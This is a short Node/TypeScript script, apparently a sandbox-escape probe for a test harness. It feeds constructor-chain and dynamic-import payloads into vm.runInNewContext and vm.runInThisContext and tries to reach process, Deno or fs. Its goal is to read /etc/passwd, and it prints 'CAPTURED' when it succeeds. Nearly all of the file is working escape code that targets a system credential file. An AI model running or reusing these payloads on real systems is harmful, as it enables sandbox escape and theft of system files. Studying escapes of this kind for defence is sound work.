//= wants: another global object, with rights that this one lacks
import vm from "node:vm";
import { createRequire } from "node:module";
const codes = [
  "this.constructor.constructor('return Deno')().readTextFileSync('/etc/passwd')",
  "this.constructor.constructor('return process')().binding('fs')",
  "import('node:fs').then((fs) => fs.readFileSync('/etc/passwd', 'utf8'))",
];
for (const code of codes) {
  for (const run of [vm.runInNewContext, vm.runInThisContext]) {
    try {
      const got = await (run as (code: string, options?: object) => unknown)(code);
      if (String(got).includes("root:")) console.log("CAPTURED", String(got).split("\n")[0]);
    } catch {
      // the next one
    }
  }
}
try {
  const made = vm.runInThisContext("(require) => require('node:fs').readFileSync('/etc/passwd', 'utf8')");
  console.log("CAPTURED", made(createRequire(import.meta.url)).split("\n")[0]);
} catch {
  // the harness looks for the lines above
}
